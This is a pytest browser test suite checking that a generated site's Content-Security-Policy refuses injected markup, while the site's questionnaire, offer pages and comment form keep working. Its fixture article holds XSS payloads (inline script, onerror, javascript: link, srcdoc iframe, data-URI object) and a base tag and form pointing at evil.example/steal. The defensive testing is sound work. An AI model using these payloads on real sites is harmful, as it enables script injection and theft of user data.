"""The Content-Security-Policy in Chromium: what an attacker writes is refused, our scripts run."""

from __future__ import annotations

from pathlib import Path

import pytest

from ..journey.journeys import ANSWERS, FORM, OFFERS, tick
from ..support import build_site, write_files

# Markup a page can only hold if an attacker slipped it past every other defence: raw HTML in
# an article is the owner's own, so it reaches the page as written.
PAYLOADS = """\
Title: Piégé
Date: 2024-01-01
Slug: piege

<script>window.pwned = "inline script";</script>
<img src="x" onerror="window.pwned = 'onerror'" alt="">
<p><a id="js-link" href="javascript:window.pwned='link'">lien</a></p>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<object data="data:text/html,<script>parent.pwned='object'</script>"></object>
<base href="https://evil.example/">
<form id="evil" action="https://evil.example/steal"><button id="evil-send">Envoyer</button></form>
"""


@pytest.fixture(scope="module")
def site(demo_preview: Path, serve) -> str:  # type: ignore[no-untyped-def]
    return serve(demo_preview)


@pytest.fixture(scope="module")
def trapped(tmp_path_factory: pytest.TempPathFactory, serve) -> str:  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("csp")
    content = write_files(root / "content", {"articles/piege.md": PAYLOADS})
    build_site(content, root / "output")
    return serve(root / "output")


def test_the_policy_refuses_inline_script_plugins_bases_and_forms(trapped: str, visit) -> None:  # type: ignore[no-untyped-def]
    url = f"{trapped}/piege.html"
    opened = visit(url)
    page = opened.page
    page.wait_for_load_state("load")
    assert page.locator("script:not([src]):not([type])").count() == 1  # there, yet refused
    page.click("#js-link")
    page.evaluate("document.getElementById('evil').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned === undefined")
    assert page.url.startswith(url)
    assert page.evaluate("document.baseURI") == url
    assert not any("evil.example" in request for request in opened.foreign_requests)
    refused = " ".join(opened.csp_violations)
    for directive in ("script-src", "object-src", "base-uri", "form-action"):
        assert directive in refused, directive


@pytest.mark.parametrize("slug", sorted(ANSWERS))
def test_the_questionnaire_and_offers_work_under_the_policy(site: str, visit, slug: str) -> None:  # type: ignore[no-untyped-def]
    opened = visit(f"{site}/{FORM}")
    page = opened.page
    tick(page, ANSWERS[slug])
    page.click("form.prospects-questionnaire button[type=submit]")
    page.wait_for_url(f"**/{OFFERS[slug]}?*")
    assert page.is_visible("text=Vos réponses")
    if slug == "devis":
        assert page.is_visible(".prospects-print")
    if slug == "proposition":
        assert page.is_visible(".prospects-slide-nav")
        page.click(".prospects-next")
        assert page.is_visible("#prospects-slide-2")
    assert page.is_visible(".prospects-mailto")
    assert opened.csp_violations == [] and opened.errors == []


def test_the_comment_form_works_under_the_policy(site: str, demo_preview: Path, visit) -> None:  # type: ignore[no-untyped-def]
    article = next(
        path
        for path in sorted(demo_preview.rglob("*.html"))
        if 'class="comment-reply"' in path.read_text(encoding="utf-8")
    )
    opened = visit(f"{site}/{article.relative_to(demo_preview)}")
    page = opened.page
    assert page.is_visible("#comment-form")
    page.locator(".comment-reply").first.click()
    assert page.is_visible(".comment-form-replying")
    page.fill("#comment-author", "Jean")
    page.fill("#comment-text", "Merci !")
    page.click("#comment-form button[type=submit]")
    assert opened.csp_violations == [] and opened.errors == []
